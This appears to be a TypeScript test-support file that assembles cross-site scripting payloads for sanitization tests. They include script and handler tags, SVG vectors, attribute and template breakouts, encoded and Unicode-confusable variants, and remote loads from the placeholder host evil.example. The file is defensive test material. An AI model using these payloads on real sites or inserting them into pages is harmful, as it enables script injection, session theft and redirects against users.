import { NAUGHTY_STRINGS } from '../../../server/test/support/naughty-strings.ts';
import { longForm, rounds } from '../../../server/test/support/test-length.ts';

/** The call of an injected script; the test binds this name to detect it. */
const RUN = 'reportExecution(1)';

const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script/src=data:text/javascript,${RUN}></script>`,
  `<script>/*</script>*/${RUN}//`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>${RUN}</script>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=https://evil.example></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=import href=https://evil.example/x>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<form action="javascript:${RUN}"><button>Send</button></form>`,
  `<form><button formaction="javascript:${RUN}">Send</button></form>`,
  `<a href="javascript:${RUN}">here</a>`,
  `<a href="jAvAsCrIpT:${RUN}">here</a>`,
  `<a href="java&#10;script:${RUN}">here</a>`,
  `<a href="&#x6a;avascript:${RUN}">here</a>`,
  `<a href=" javascript:${RUN}">here</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">here</a>`,
  `<a xlink:href="javascript:${RUN}">here</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<title></title><script>${RUN}</script>`,
  `<math><mtext></mtext><mglyph><style></style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">here</math>`,
  `<xss style="behavior:url(https://evil.example/x.htc)">`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<portal src="javascript:${RUN}">`,
  `<frameset onload=${RUN}>`,
];

const HANDLED = [
  'img',
  'image',
  'video',
  'audio',
  'body',
  'svg',
  'input',
  'details',
  'marquee',
  'select',
  'video poster=x',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus autofocus',
  'ontoggle open',
  'onstart',
  'onpointerenter',
  'onanimationstart',
];

const SVG = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>here</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><foreignObject><iframe src=javascript:${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
];

/** Ways out of an attribute, a script, a comment, a template, a URL, a style or a pattern. */
const BREAKOUTS = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `\`><script>${RUN}</script>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `" autofocus onfocus=${RUN} "`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</option></select><img src=x onerror=${RUN}>`,
  `</td></table><img src=x onerror=${RUN}>`,
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `*/${RUN}/*`,
  `expression(${RUN})`,
  `url(javascript:${RUN})`,
  `red;background:url(https://evil.example/x)`,
  `}*{background:url(https://evil.example/x)}`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `//evil.example/`,
  `https://evil.example/"onclick="${RUN}`,
  `/\\evil.example`,
  `..\\..\\..\\evil`,
  `../../login?next=javascript:${RUN}`,
  `?next=//evil.example`,
  `#"><img src=x onerror=${RUN}>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `dangerouslySetInnerHTML`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
  `[click](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  `$& $1 $\` $'`,
  `%s %d %o %c`,
  `\u001b[31mred\u001b[0m`,
];

/** The same with confusable characters and such that change the text direction. */
const UNICODE = [
  `＜script＞${RUN}＜/script＞`,
  `‹script›${RUN}‹/script›`,
  `<script\u2028>${RUN}</script>`,
  `<script\u00a0>${RUN}</script\u00a0>`,
  `<img\u3000src=x\u3000onerror=${RUN}>`,
  `<ſcript>${RUN}</ſcript>`,
  `\ufeff<script>${RUN}</script>`,
  `\u202e<script>${RUN}</script>\u202c`,
  `\u2066<img src=x onerror=${RUN}>\u2069`,
  `<\u200bscript>${RUN}</script>`,
  `ja\u00advascript:${RUN}`,
  `<img src=x on\u0435rror=${RUN}>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<svg onload\u000b=${RUN}>`,
  `<svg\u000conload=${RUN}>`,
  `<svg/\u{1F600}/onload=${RUN}>`,
  `Z${'\u0351\u0360\u0321'.repeat(40)}<img src=x onerror=${RUN}>`,
  `${'\u0628'.repeat(20)}<script>${RUN}</script>`,
];

/** Each tag with one handler and each handler with a tag; in the long form each tag with each handler. */
const HANDLED_TEXTS = HANDLED.flatMap((tag, index) =>
  HANDLERS.filter((_, handler) => longForm || handler === index % HANDLERS.length).map(
    (handler) => `<${tag} src=x ${handler}=${RUN}>`,
  ),
);

/** Own vectors: a browser would run them if a page inserted them as HTML, a URL or code. */
export const XSS_TEXTS: readonly string[] = [...TAGS, ...HANDLED_TEXTS, ...SVG, ...BREAKOUTS, ...UNICODE];

/** The vectors, and the visible texts of the Big List of Naughty Strings, in the short form every fourth. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...XSS_TEXTS,
  ...NAUGHTY_STRINGS.filter(
    (text) => text.trim() !== '' && !text.includes('\u0000') && text.isWellFormed(),
  ).filter((_, index) => index % rounds(4, 1) === 0),
];
